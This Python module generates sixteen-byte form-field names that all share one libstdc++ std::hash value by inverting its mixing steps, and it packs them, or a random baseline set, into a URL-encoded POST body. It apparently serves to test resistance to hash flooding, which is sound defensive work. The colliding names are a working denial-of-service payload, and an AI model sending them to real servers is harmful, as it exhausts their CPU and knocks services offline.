"""Field names an attacker computes offline: sixteen bytes each, all with one
std::hash<std::string> value. libstdc++ hashes strings with a fixed seed,
eight bytes at a time, and each step runs backwards: for any first eight
bytes there are last eight that bring the hash to a chosen value."""

import random

MASK = (1 << 64) - 1
MUL = (0xc6a4a793 << 32) + 0x5bd1e995
SEED = 0xc70f6907
INVERSE = pow(MUL, -1, 1 << 64)


def shift_mix(v):
    return v ^ (v >> 47)  # its own inverse


def block(k):
    return shift_mix(k * MUL & MASK) * MUL & MASK


def unblock(d):
    return shift_mix(d * INVERSE & MASK) * INVERSE & MASK


def names_sharing_one_std_hash(count, seed=20261209):
    """count names of 16 bytes, none holding a NUL, "=", "&" or "%", nor "#", "<" or ">": each an ordinary
    placeholder name."""
    rng = random.Random(seed)
    start = SEED ^ (16 * MUL & MASK)
    target = 0x5eed5eed5eed5eed
    names = []
    while len(names) < count:
        first = rng.getrandbits(64)
        second = unblock((target * INVERSE & MASK) ^ ((start ^ block(first)) * MUL & MASK))
        name = first.to_bytes(8, "little") + second.to_bytes(8, "little")
        if not any(c in name for c in b"\0=&%#<>"):
            names.append(name)
    return names


def random_names(count, seed=20261209):
    rng = random.Random(seed)
    names = set()
    while len(names) < count:
        name = bytes(rng.getrandbits(8) for _ in range(16))
        if not any(c in name for c in b"\0=&%#<>"):
            names.add(name)
    return sorted(names)


def post_of(names):
    """A URL-encoded body with each name as a field."""
    from urllib.parse import quote_from_bytes
    return b"&".join(quote_from_bytes(n, safe=b"").encode() + b"=v" for n in names)
